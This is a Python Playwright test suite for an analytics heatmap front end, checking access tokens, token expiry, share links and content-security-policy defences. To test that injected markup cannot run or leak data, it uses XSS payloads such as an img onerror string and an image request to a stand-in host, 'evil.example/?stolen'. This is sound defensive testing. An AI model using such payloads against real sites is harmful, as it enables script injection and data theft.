"""Private grids in a real browser with the real broadcaster: visible only with a token."""

from collections.abc import Iterator
from datetime import datetime, timedelta

import pytest
from playwright.sync_api import Browser, Error, Page, expect

from pageheat.frontends.heatmap.bookmarklet import href
from pageheat.frontends.heatmap.server import create_app
from pageheat.services.broadcaster.app import Broadcaster
from pageheat.services.broadcaster.sockets import SocketProtocol
from pageheat.services.contract.records import Heartbeat, Size, encode
from pageheat.services.contract.tokens import issue
from pageheat.services.contract.topics import HEATMAP_DETAIL
from pageheat.services.runtime.access import Access
from pageheat.services.runtime.gate import Gate
from pageheat.services.runtime.settings import BroadcasterSettings, HeatmapSettings
from tests.support.broadcaster import NOW_MS, make_band, make_detail, make_grid, on_element
from tests.support.chromium import leave
from tests.support.elsewhere import Elsewhere
from tests.support.heatmap_records import ListSource
from tests.support.server import Server
from tests.support.site import Site

SECRET = "a secret that is long enough: 32"

HOSTILE = "/heated/<img src=x onerror=oops()>"

PAGES = {"/heated/lamp": 700, HOSTILE: 500, "/legal": 300, "/liquid": 100}
"""Path → moves."""


def token(prefix: str, hours: float = 1, secret: str = SECRET) -> str:
    return issue(secret, "", prefix, NOW_MS // 1000 + round(3600 * hours))


class Private:
    """The real broadcaster with a secret and some warm pages, on a stopped clock."""

    def __init__(self, **settings: str) -> None:
        self.now_ms = NOW_MS
        source = ListSource()
        for page, moves in PAGES.items():
            source.put(page, encode(make_grid({(25, 25): moves}, {(1, 1): 1}, size=Size(1280, 2400))))
            marked = on_element('[data-part="<img src=x onerror=oops()>"]', {(1, 1): 9})
            source.put(page, encode(make_detail(make_band("wide", marked))), HEATMAP_DETAIL)
        source.put("clock/4", encode(Heartbeat(4, 8812, NOW_MS)))
        app = Broadcaster(source, lambda: self.now_ms, access=Access(SECRET, lambda: self.now_ms))
        named = BroadcasterSettings.load(**settings)
        self._server = Server(Gate(app, named.hosts, named.viewers), ws=SocketProtocol)

    @property
    def origin(self) -> str:
        return self._server.origin

    def close(self) -> None:
        self._server.stop()


@pytest.fixture(scope="module")
def front() -> Server:
    """The front end's port."""
    return Server()


@pytest.fixture(scope="module")
def private(front: Server, elsewhere: Elsewhere) -> Iterator[Private]:
    private = Private(heatmap_url=front.origin, origins=elsewhere.main)
    yield private
    private.close()


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    elsewhere = Elsewhere()
    yield elsewhere
    elsewhere.close()


@pytest.fixture(scope="module")
def frontend(front: Server, site_alone: Site, private: Private, elsewhere: Elsewhere) -> Iterator[str]:
    settings = HeatmapSettings.load(
        site_url=site_alone.origin, broadcaster_url=private.origin, origins=elsewhere.main
    )
    front.start(create_app(settings))
    yield front.origin
    front.stop()


@pytest.fixture
def said(page: Page) -> Iterator[list[str]]:
    """Every address the browser requested; and no page violates its own policy."""
    addresses: list[str] = []
    violations: list[str] = []
    page.on("request", lambda request: addresses.append(request.url))
    page.on("websocket", lambda socket: addresses.append(socket.url))
    page.on("console", lambda line: violations.append(line.text) if "Content Security" in line.text else None)
    yield addresses
    assert violations == []


def test_the_panel_asks_for_a_token_and_shows_what_it_covers_until_it_expires(
    page: Page, frontend: str, private: Private, said: list[str]
) -> None:
    page.goto(f"{frontend}/heated/lamp")
    state, message = page.locator(".state strong"), page.locator(".message")
    field, show = page.get_by_label("Access token").first, page.get_by_role("button", name="Show", exact=True)
    expect(state).to_have_text("Private")
    expect(message).to_contain_text("An access token is needed")
    field.fill("my password")
    show.click()
    assert field.evaluate("(field) => field.validationMessage").startswith("This is not an access token")
    for given, heard in [
        (token("/", secret="another secret, as long as it has to be"), "is not valid here"),
        (token("/legal"), "covers /legal and pages below it"),
    ]:
        field.fill(given)
        show.click()
        expect(message).to_contain_text(heard)
        expect(page.locator(".counts")).to_contain_text("0 moves")
    given = token("/heated")
    field.fill(given)
    field.press("Enter")
    expect(state).to_have_text("Live")
    expect(page.locator(".counts")).to_contain_text("700 moves")
    expect(field).to_be_hidden()
    page.get_by_role("button", name="Elements").click()
    expect(page.locator(".elements")).to_contain_text('[data-part="<img src=x onerror=oops()>"]')
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Warm pages").click()
    expect(page.locator(".board .page:not(.head .page)")).to_have_text(["/heated/lamp", HOSTILE])
    for part in (".board", ".elements"):
        assert page.locator(f"{part} img").count() == 0

    kept = page.evaluate(
        "() => [Object.values(sessionStorage), Object.values(localStorage), document.cookie]"
    )
    assert given in kept[0]
    assert kept[1:] == [[], ""]
    assert not any(part in address for address in said for part in given.split("."))

    private.now_ms += 3_600_000
    try:
        expect(state).to_have_text("Private")
        expect(message).to_contain_text("has ended")
        expect(page.locator(".counts")).to_contain_text("0 moves")
        expect(page.locator(".board .row")).to_have_count(0)
        expect(page.locator(".drawer").get_by_label("Access token")).to_be_visible()
    finally:
        private.now_ms = NOW_MS


def test_a_token_in_the_fragment_opens_the_list_and_is_removed_from_the_address(
    page: Page, frontend: str, said: list[str]
) -> None:
    page.goto(f"{frontend}/_pageheat/")
    expect(page.locator(".board .notice")).to_contain_text("An access token is needed")
    given = token("/heated")
    page.goto(f"{frontend}/_pageheat/#pageheat-token={given}")
    rows = page.locator(".board .row .page")
    expect(rows).to_have_text(["/heated/lamp", HOSTILE])
    expect(page.get_by_label("Access token")).to_be_hidden()
    assert page.url == f"{frontend}/_pageheat/"
    assert page.locator(".board img").count() == 0
    rows.first.click()
    expect(page.locator(".counts")).to_contain_text("700 moves")
    page.go_back()
    assert page.url == f"{frontend}/_pageheat/"
    assert not any(given in address.partition("#")[0] for address in said)


def test_markup_injected_into_our_own_page_can_do_nothing(page: Page, frontend: str) -> None:
    page.goto(f"{frontend}/_pageheat/")
    with pytest.raises(Error, match="TrustedHTML"):
        page.evaluate("() => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=oops()>')")
    blocked = page.evaluate(
        """() => new Promise((done) => {
          document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective));
          const image = document.createElement("img");
          image.setAttribute("src", "https://evil.example/?stolen");
          document.body.append(image);
        })"""
    )
    assert blocked == "img-src"


def test_the_heat_picture_asks_for_a_token_too(page: Page, frontend: str, elsewhere: Elsewhere) -> None:
    page.goto(f"{elsewhere.main}/liquid")
    with pytest.raises(Error, match="ERR_ABORTED"):  # a bookmark without a document
        page.goto(href(frontend, "picture"))
    notice = page.locator("pageheat-bookmarklet aside")
    expect(notice).to_contain_text("Private")
    notice.get_by_label("Access token").fill(token("/liquid"))
    notice.get_by_role("button", name="Show").click()
    expect(page.locator("pageheat-bookmarklet img").first).to_be_visible()
    expect(notice).not_to_contain_text("Private")


def test_a_link_lets_a_colleague_look_at_this_page_alone_without_a_token_of_their_own(
    browser: Browser, page: Page, frontend: str, said: list[str]
) -> None:
    page.goto(f"{frontend}/heated/lamp#pageheat-token={token('/heated', hours=100)}")
    expect(page.locator(".counts")).to_contain_text("700 moves")
    page.get_by_role("button", name="Time: Live").click()
    page.get_by_role("button", name="Share").click()
    page.evaluate("navigator.clipboard.writeText = async (text) => { window.copied = text; }")
    page.get_by_role("button", name="Copy a link that lets others look").click()
    expect(page.locator(".share .said")).to_contain_text("whoever has the link may look, and change nothing")
    link = page.evaluate("copied")
    given = link.split("token=")[1].split("&")[0]
    assert not any(given.split(".")[2] in address for address in said)  # a fragment is never sent
    context = browser.new_context()
    other = context.new_page()
    other.goto(link)
    expect(other.locator(".counts")).to_contain_text("700 moves")
    assert other.evaluate("location.href") == f"{frontend}/heated/lamp"
    other.goto(f"{frontend}/heated/chair")
    expect(other.locator(".message")).to_contain_text("covers /heated/lamp alone, not this page")
    leave(context)
    page.get_by_role("combobox", name="For").select_option("8 hours")
    page.get_by_role("button", name="Copy a link that lets others look").click()
    later = datetime.fromtimestamp(NOW_MS / 1000) + timedelta(hours=8)
    expect(page.locator(".share .said")).to_contain_text(f"{later.day} {later:%b %Y, %H:%M}")
    page.get_by_role("radio", name="The site").check()
    page.get_by_role("button", name="Copy a link that lets others look").click()
    expect(page.locator(".share .said")).to_contain_text("covers /heated and pages below it, so no link")
